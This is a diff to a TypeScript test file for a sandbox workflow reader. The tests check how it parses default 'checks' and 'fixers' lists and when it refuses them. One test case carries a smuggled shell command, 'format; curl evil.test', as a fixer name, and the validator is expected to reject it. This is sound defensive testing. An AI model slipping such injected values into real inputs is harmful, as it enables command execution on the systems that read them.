@@ -29,7 +29,24 @@ describe('a workflow the app can work with', () => {
   test('its checks are the default of the input, in that order', () => {
     const reading = readSandboxWorkflow(changed(`'["test", "lint"]'`, `'["unit tests", "lint", "e2e.chrome"]'`), path);
 
-    expect(reading).toEqual({ ok: true, checks: ['unit tests', 'lint', 'e2e.chrome'], keepsReports: true });
+    expect(reading).toMatchObject({ ok: true, checks: ['unit tests', 'lint', 'e2e.chrome'] });
+  });
+
+  test('its fixers are the default of their input, in that order; none where it has no such input', () => {
+    const fixers = (text: string) => readSandboxWorkflow(text, path);
+    const listed = changed(`'["lockfile", "lint", "format"]'`, `'["format", "our own"]'`);
+
+    expect(fixers(listed)).toMatchObject({ ok: true, fixers: ['format', 'our own'] });
+    expect(fixers(changed(`'["lockfile", "lint", "format"]'`, `'[]'`))).toMatchObject({ ok: true, fixers: [] });
+    expect(fixers(changed(/^ {6}fixers:\n(?: {8}.*\n)+/m, ''))).toMatchObject({ ok: true, fixers: [] });
+  });
+
+  test.each([
+    ['no list', 'format', 'gives the input fixers no usable default'],
+    ['a name that bash would read', '["format; curl evil.test"]', 'gives the input fixers no usable default'],
+    ['one name twice', '["format", "Format"]', 'gives the input fixers no usable default'],
+  ])('is refused with %s for its fixers', (_what, fixers, reason) => {
+    expect(reasonOf(changed(`'["lockfile", "lint", "format"]'`, `'${fixers}'`))).toContain(reason);
   });
 
   test.each([
